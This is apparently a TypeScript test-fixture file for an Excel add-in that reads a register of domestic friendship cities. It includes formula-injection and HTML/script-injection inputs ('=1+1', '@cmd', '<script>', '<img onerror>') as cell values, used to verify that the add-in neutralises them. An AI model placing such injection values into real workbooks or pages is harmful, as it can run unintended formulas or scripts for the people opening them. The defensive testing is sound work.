    title: "partners named <script>…</script> and <img onerror>",
    build: () =>
      xlsx(register([agreement(SCRIPT), agreement(IMG, { signed: "待定" })]), exchanges([SCRIPT, "<b>未登记</b>"])),
    expect: [
      { status: "active", sheet: R, row: 4 },
      { finding: "DATA-DATE", sheet: R, row: 5 },
      { finding: "DATA-PARTNER", sheet: "交流活动", row: 3 },
    ],
    injection: [SCRIPT, IMG],
  },
  {
    id: "injection-in-candidates-and-log",
    title: "a candidate city named =1+1 (资格评估's first column) and a log partner named @cmd",
    build: () =>
      xlsx(
        register(cleanRows(1)),
        {
          name: "拟缔结评估",
          rows: [
            ["城市", "行政级别", "条件一", "条件二", "条件三", "条件四", "条件五"],
            [asText("=1+1"), "地级市", "是", "是", "是", "是", "是"],
            [asText("-A1*2"), "县", "否", "否", "否", "否", "否"],
          ],
        },
        exchanges(["上海市黄浦区", asText("@cmd")]),
      ),
    expect: [
      { role: "candidates", sheet: "拟缔结评估" },
      { finding: "ELIG-CRITERIA", sheet: "拟缔结评估", row: 2 },
      { finding: "DATA-PARTNER", sheet: "交流活动", row: 3 },
    ],
    injection: ["=1+1", "-A1*2"],
  },
  {
    id: "injection-in-date-cell",
    title: "=1+2 typed as text into a date cell: the finding quotes it",
    build: () => xlsx(register([agreement("上海市黄浦区", { signed: asText("=1+2") })])),
    expect: [{ finding: "DATA-DATE", sheet: R, row: 4, column: at("signed"), quotes: "=1+2" }],
    check: (run) => expectNoFormulasInOwnSheets(run),
  },
];

export const UNREADABLE: UnreadableCase[] = [
  {
    id: "csv-named-xlsx",
    title: "a CSV export saved with an .xlsx name",
    bytes: () => Buffer.from("友城名称,签署日期\n上海市黄浦区,2023-06-18\n", "utf8"),
    reason: "not-a-workbook",
  },
  { id: "zero-bytes", title: "an empty file", bytes: () => Buffer.alloc(0), reason: "not-a-workbook" },
  {
    id: "truncated-xlsx",
    title: "a register cut off half-way through (an interrupted copy)",
    bytes: async () => truncated(await xlsx(register(cleanRows(3)))),
    reason: "corrupt",
    spawn: true,
  },
  {
    id: "password-protected",
    title: "a workbook with an opening password",
    bytes: () => encryptedLookalike(),
    reason: "encrypted",
  },
];

// ---------------------------------------------------------------------------------------------

const PARTNERS_2 = ["杭州市西湖区", "成都市青羊区"];

function rowOf(a: Record<RegisterField, CellSpec>): CellSpec[] {
  return (
    [
      "partner",
      "province",
      "relation",
      "npc",
      "signed",
      "term",
      "copies",
      "held",
      "custodian",
      "status",
    ] as RegisterField[]
  ).map((f) => a[f]);
}

function instructions(n: number): CellSpec[][] {
  return Array.from({ length: n }, (_, i) =>
    i === 0 ? ["西城区国内友好城市（区）名录"] : [`填表说明第${i}条：请按实际情况填写`],
  );
}

/** Date cells of the add-in's sheets hold serials Excel can show (≥ 1), in both writers' output. */
function expectNoNegativeDates(run: CaseRun): void {
  const bad: unknown[] = [];
  if (run.excelJs.ok) {
    const { outputGrid, plan } = run.excelJs.value;
    for (const own of plan.sheets) {
      const dateColumns = own.columns.flatMap((c, i) => (c.kind === "date" ? [i] : []));
      const grid = outputGrid.sheets.find((s) => s.name === own.name);
      grid?.values.forEach((row, r) => {
        for (const c of dateColumns) {
          const v = row[c];
          if (r > 0 && typeof v === "number" && v < 1)
            bad.push({ writer: "exceljs", sheet: own.name, row: r + 1, column: c, serial: v });
        }
      });
    }
  }
  if (run.fake.ok) {
    const { after } = run.fake.value;
    for (const sheet of after.sheets) {
      if (!sheet.tables.some((t) => t.name.startsWith("PartnerCities_"))) continue;
      for (const [key, cell] of Object.entries(sheet.cells)) {
        if (typeof cell.value === "number" && cell.value < 1 && /[ymd]/.test(cell.numberFormat ?? ""))
          bad.push({ writer: "office-js", sheet: sheet.name, cell: key, serial: cell.value });
      }
    }
  }
  expect(bad).toEqual([]);
}

/** No cell of the add-in's sheets holds a formula (the exceljs output and the fake host). */
function expectNoFormulasInOwnSheets(run: CaseRun): void {
  if (run.excelJs.ok) {
    const { after, plan } = run.excelJs.value;
    for (const own of plan.sheets) {
      for (const [address, cell] of Object.entries(after.cells[own.name] ?? {})) {
        expect({ address, formula: (cell.value as { formula?: string } | null)?.formula ?? null }).toEqual({
          address,
          formula: null,
        });
      }
    }
  }
}
